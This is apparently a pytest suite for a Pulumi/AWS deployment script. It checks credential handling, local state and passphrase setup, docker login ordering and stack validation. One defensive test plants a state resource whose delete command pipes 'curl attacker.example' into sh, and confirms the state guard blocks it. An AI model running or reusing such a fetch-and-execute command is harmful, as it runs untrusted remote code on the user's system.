"""scripts/deploy.sh (`make deploy`) with stand-ins for pulumi, docker and python3 on PATH, and the real AWS
CLI against moto's server (through a wrapper that logs each call)."""

from __future__ import annotations

import json
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from infra.project import PROJECT
from tests.pipeline.helpers import ROOT, copy_scripts, tool_env, write_tool
from tests.support.aws import cli_env, reset_moto

IMAGE_URI = f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/{PROJECT}-dev@sha256:" + "ab" * 32

PULUMI = """echo "pulumi $* | backend=${PULUMI_BACKEND_URL:-} passfile=${PULUMI_CONFIG_PASSPHRASE_FILE:-} \
cache=${BUILD_CACHE_FROM:-}" >> "$FAKE_LOG"
case "$1 ${2:-}" in
  "stack select") [[ -n "${FAKE_STACK_EXISTS:-}" ]] ;;
  "stack output") [[ -n "${FAKE_IMAGE_URI:-}" ]] && printf '%s\\n' "$FAKE_IMAGE_URI" ;;
  "config get") [[ -n "${FAKE_REGION:-}" ]] && printf '%s\\n' "$FAKE_REGION" ;;
  "stack export") cat "${FAKE_EXPORT:-$FAKE_EMPTY_EXPORT}" ;;
  *) ;;
esac
"""
DOCKER = """echo "docker $*" >> "$FAKE_LOG"
[[ -z "${FAKE_DOCKER_DOWN:-}" ]]
[[ "$1" != login ]] || cat > /dev/null
"""
# The real AWS CLI (the test venv's) against moto: logged, and without any credentials when told.
AWS = f"""echo "aws $*" >> "$FAKE_LOG"
if [[ -n "${{FAKE_NO_CREDENTIALS:-}}" ]]; then unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN; fi
exec {Path(sys.executable).parent / "aws"} "$@"
"""
GH = """echo "gh $*" >> "$FAKE_LOG"
[[ -n "${FAKE_PIPELINE_CONFIGURED:-}" ]] && echo "s3://state"
"""
# `python3 -m venv DIR` makes DIR/bin/python a logging stand-in, so no package is installed by the tests;
# `python3 -m infra.project` runs the real stack-name rule.
PYTHON3 = f"""if [[ "$1 $2" == "-m infra.project" || "$1 $2" == "-m scripts.state_guard" ]]; then
  exec {sys.executable} "$@"
fi
echo "python3 $*" >> "$FAKE_LOG"
if [[ "$1 $2" == "-m venv" ]]; then
  mkdir -p "$3/bin"
  printf '#!/usr/bin/env bash\\necho "venv-python $*" >> "$FAKE_LOG"\\n' > "$3/bin/python"
  chmod +x "$3/bin/python"
fi
"""


@pytest.fixture
def world(tmp_path):
    repo = tmp_path / "repo"
    copy_scripts(repo)
    (repo / "infra").mkdir()
    for module in ("project.py", "catalogue.py", "iam_rules.py"):  # the state guard's
        shutil.copy(ROOT / "infra" / module, repo / "infra" / module)
    shutil.copy(ROOT / "Pulumi.yaml", repo / "Pulumi.yaml")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, body in {"pulumi": PULUMI, "docker": DOCKER, "python3": PYTHON3, "aws": AWS, "gh": GH}.items():
        write_tool(bin_dir, name, body)
    log = tmp_path / "calls.log"
    log.touch()
    empty = tmp_path / "empty-export.json"  # `pulumi stack export` of a stack without resources
    empty.write_text(json.dumps({"version": 3, "deployment": {"manifest": {"time": "2026-12-04T00:00:00Z"}}}))
    endpoint = reset_moto()

    def run(*args: str, **env: str) -> tuple[subprocess.CompletedProcess, list[str]]:
        result = subprocess.run(
            ["bash", str(repo / "scripts" / "deploy.sh"), *args],
            env=cli_env(
                tool_env(
                    bin_dir, FAKE_LOG=str(log), FAKE_REGION="eu-west-1", FAKE_EMPTY_EXPORT=str(empty), **env
                ),
                endpoint,
            ),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        return result, log.read_text().splitlines()

    return repo, bin_dir, run


def pulumi_calls(lines: list[str]) -> list[str]:
    return [line.split(" | ")[0] for line in lines if line.startswith("pulumi ")]


def test_rejects_an_unknown_action(world):
    _, _, run = world
    result, calls = run("deploy", "dev")
    assert result.returncode == 2
    assert "usage:" in result.stderr
    assert calls == []


@pytest.mark.parametrize("stack", ["Dev", "dev_stack", "-dev", "dev-", "a--b", "a" * 32])
def test_rejects_a_stack_name_the_resource_names_cannot_carry(world, stack):
    _, _, run = world
    result, calls = run("up", stack)
    assert result.returncode == 1
    assert f"stack name '{stack}'" in result.stderr
    assert calls == []


def test_names_the_missing_pulumi_cli(world):
    _, bin_dir, run = world
    (bin_dir / "pulumi").unlink()
    result, _ = run("up", "dev")
    assert result.returncode == 1
    assert "Pulumi CLI is required" in result.stderr


def deployed(repo):
    """A checkout where `make deploy` already ran: the local state and its passphrase exist."""
    (repo / ".pulumi-state").mkdir()
    (repo / ".pulumi-state" / "passphrase").write_text("ab" * 32)
    return repo


def test_first_deploy_checks_credentials_then_creates_file_state_a_private_passphrase_and_the_stack(world):
    repo, _, run = world
    result, calls = run("up")
    assert result.returncode == 0, result.stderr
    assert calls[0] == "aws sts get-caller-identity --query Account --output text"
    passphrase = repo / ".pulumi-state" / "passphrase"
    assert stat.S_IMODE(passphrase.stat().st_mode) == 0o600
    assert len(passphrase.read_text()) == 64 and int(passphrase.read_text(), 16) >= 0
    state_url = f"file://{repo}/.pulumi-state"
    env_seen = f"backend={state_url} passfile={passphrase}"
    assert all(env_seen in line for line in calls if line.startswith("pulumi"))
    assert pulumi_calls(calls) == [
        "pulumi login --non-interactive",
        "pulumi stack select dev --non-interactive",
        "pulumi stack init dev --non-interactive",
        "pulumi install",
        "pulumi config get aws:region --stack dev",
        "pulumi stack output imageUri --stack dev",
        "pulumi stack export --stack dev",  # the state guard, right before the engine runs
        "pulumi up --yes --stack dev --non-interactive --policy-pack policy",
    ]


def test_docker_logs_in_to_the_accounts_registry_before_the_update(world):
    _, _, run = world
    result, calls = run("up")
    assert result.returncode == 0, result.stderr
    registry = "123456789012.dkr.ecr.eu-west-1.amazonaws.com"
    login = calls.index(f"docker login --username AWS --password-stdin {registry}")
    password = calls.index("aws ecr get-login-password --region eu-west-1")  # piped: either may log first
    update = calls.index(next(line for line in calls if line.startswith("pulumi up ")))
    assert max(login, password) < update


def test_without_credentials_nothing_is_created(world):
    repo, _, run = world
    result, calls = run("up", FAKE_NO_CREDENTIALS="1")
    assert result.returncode == 1
    assert "no usable AWS credentials" in result.stderr
    assert pulumi_calls(calls) == []
    assert not (repo / ".pulumi-state").exists()


def test_without_docker_nothing_is_created(world):
    repo, _, run = world
    result, calls = run("up", FAKE_DOCKER_DOWN="1")
    assert result.returncode == 1
    assert "Docker engine is not reachable" in result.stderr
    assert pulumi_calls(calls) == []
    assert not (repo / ".pulumi-state").exists()


@pytest.mark.parametrize("action", ["preview", "destroy", "outputs", "url"])
def test_a_checkout_without_local_state_is_refused_not_initialised(world, action):
    repo, _, run = world
    result, calls = run(action)
    assert result.returncode == 1
    assert "no local state" in result.stderr
    assert pulumi_calls(calls) == []
    assert not (repo / ".pulumi-state").exists()


@pytest.mark.parametrize("action", ["preview", "destroy", "outputs", "url"])
def test_a_stack_missing_from_the_backend_is_refused_not_created(world, action):
    repo, _, run = world
    deployed(repo)
    result, calls = run(action, "qa")
    assert result.returncode == 1
    assert "stack 'qa' does not exist" in result.stderr
    assert not any(call.startswith("pulumi stack init") for call in pulumi_calls(calls))
    assert not any(call.startswith(("pulumi destroy", "pulumi preview")) for call in pulumi_calls(calls))


def test_the_passphrase_is_generated_once(world):
    repo, _, run = world
    run("up")
    first = (repo / ".pulumi-state" / "passphrase").read_text()
    result, _ = run("up", FAKE_STACK_EXISTS="1")
    assert result.returncode == 0, result.stderr
    assert (repo / ".pulumi-state" / "passphrase").read_text() == first


def test_any_pulumi_command_runs_against_the_same_state(world):
    repo, _, run = world
    deployed(repo)
    result, calls = run("pulumi", "dev", "--", "config", "set", "memorySize", "2048", FAKE_STACK_EXISTS="1")
    assert result.returncode == 0, result.stderr
    assert pulumi_calls(calls)[-1] == "pulumi config set memorySize 2048"
    env_seen = f"backend=file://{repo}/.pulumi-state passfile={repo}/.pulumi-state/passphrase"
    assert env_seen in [line for line in calls if line.startswith("pulumi config set")][0]


def test_outputs_and_url_read_the_stack(world):
    repo, _, run = world
    deployed(repo)
    _, calls = run("outputs", FAKE_STACK_EXISTS="1")
    assert pulumi_calls(calls)[-1] == "pulumi stack output --stack dev --json"
    _, calls = run("url", FAKE_STACK_EXISTS="1")
    assert pulumi_calls(calls)[-1] == "pulumi stack output url --stack dev"


def test_a_local_deploy_warns_when_the_pipeline_is_configured(world):
    _, _, run = world
    result, _ = run("up", FAKE_PIPELINE_CONFIGURED="1")
    assert result.returncode == 0, result.stderr
    assert "pipeline is configured" in result.stderr and "stack export" in result.stderr
    quiet, _ = run("up", FAKE_STACK_EXISTS="1")
    assert "pipeline is configured" not in quiet.stderr


def test_the_policy_pack_gets_its_own_venv(world):
    repo, _, run = world
    deployed(repo)
    _, calls = run("preview", FAKE_STACK_EXISTS="1")
    assert "python3 -m venv policy/venv" in calls
    assert "venv-python -m pip install --quiet --requirement policy/requirements.txt" in calls
    # then the platform's library on the pack's path (infra/project.py link-library)
    assert calls.index(
        "venv-python -m pip install --quiet --requirement policy/requirements.txt"
    ) < calls.index("venv-python -m infra.project link-library")
    preview = "pulumi preview --diff --stack dev --non-interactive --policy-pack policy"
    assert pulumi_calls(calls)[-1] == preview


def test_the_deployed_image_is_the_build_cache(world):
    _, _, run = world
    _, calls = run("up", FAKE_STACK_EXISTS="1", FAKE_IMAGE_URI=IMAGE_URI)
    up = [line for line in calls if line.startswith("pulumi up ")]
    assert up and up[0].endswith(f"cache={IMAGE_URI}")


def test_a_remote_backend_uses_its_own_secrets_provider(world):
    repo, _, run = world
    result, calls = run(
        "up",
        "prod",
        PULUMI_BACKEND_URL="s3://state-bucket?region=eu-west-1",
        PULUMI_SECRETS_PROVIDER=f"awskms://alias/{PROJECT}-state?region=eu-west-1",
    )
    assert result.returncode == 0, result.stderr
    assert not (repo / ".pulumi-state").exists()
    assert (
        "pulumi stack init prod --non-interactive "
        f"--secrets-provider awskms://alias/{PROJECT}-state?region=eu-west-1"
    ) in pulumi_calls(calls)


def test_destroy_needs_no_docker(world):
    repo, _, run = world
    deployed(repo)
    result, calls = run("destroy", FAKE_STACK_EXISTS="1", FAKE_DOCKER_DOWN="1")
    assert result.returncode == 0, result.stderr
    assert not any(line.startswith("docker login") for line in calls)
    assert pulumi_calls(calls)[-1] == "pulumi destroy --yes --stack dev --non-interactive"


def test_destroy_logs_docker_in_when_docker_is_there(world):
    # the docker provider reads the registry credentials from Docker's config in a destroy too
    repo, _, run = world
    deployed(repo)
    result, calls = run("destroy", FAKE_STACK_EXISTS="1")
    assert result.returncode == 0, result.stderr
    registry = "123456789012.dkr.ecr.eu-west-1.amazonaws.com"
    destroy = calls.index(next(line for line in calls if line.startswith("pulumi destroy ")))
    assert calls.index(f"docker login --username AWS --password-stdin {registry}") < destroy


@pytest.mark.parametrize("action", ["up", "destroy"])
def test_a_state_with_a_command_the_program_never_declared_stops_before_the_engine(world, tmp_path, action):
    # a `delete` command planted in the state by whoever could write it (scripts/state_guard.py)
    planted = tmp_path / "planted.json"
    planted.write_text(
        json.dumps(
            {
                "version": 3,
                "deployment": {
                    "resources": [
                        {
                            "urn": f"urn:pulumi:dev::{PROJECT}::command:local:Command::x",
                            "custom": True,
                            "type": "command:local:Command",
                            "outputs": {"create": "true", "delete": "curl attacker.example | sh"},
                        }
                    ]
                },
            }
        )
    )
    repo, _, run = world
    (repo / ".pulumi-state").mkdir()  # the stack was deployed from this checkout
    result, calls = run(action, "dev", FAKE_STACK_EXISTS="1", FAKE_EXPORT=str(planted))
    assert result.returncode == 1, result.stderr
    assert "carry a `delete` command" in result.stderr
    assert not [call for call in pulumi_calls(calls) if call.startswith(f"pulumi {action} ")]
